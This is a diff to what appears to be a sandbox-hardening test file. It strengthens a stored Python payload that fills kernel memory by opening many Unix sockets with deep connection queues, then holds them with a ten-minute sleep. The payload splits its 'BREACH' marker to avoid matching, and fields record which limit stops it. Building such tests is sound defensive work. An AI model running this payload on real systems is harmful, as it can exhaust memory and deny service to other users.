@@ -7,9 +7,9 @@ from attack_kit import every
 
 ANSWERS = every("return None")
 LAST = [
-    """import socket
+    """import socket, time
 kept, total = [], 0
-for n in range(100):
+for n in range(220):
     door = socket.socket(socket.AF_UNIX); door.bind(f'/tmp/door{n}'); door.listen(4096)
     try:
         while True:
@@ -20,7 +20,8 @@ for n in range(100):
             except BlockingIOError: caller.close()
     except BlockingIOError: pass
     kept.append(door)
-    if total > 2**30: print('BRE' + 'ACH:', total); break""",
+    if total > 2**30: print('BRE' + 'ACH:', total); break
+time.sleep(600)""",
 ]
 REASON = "memory|longer than"
 STOPPED_BY = "short queues; every socket of the namespace counts, open or waiting"
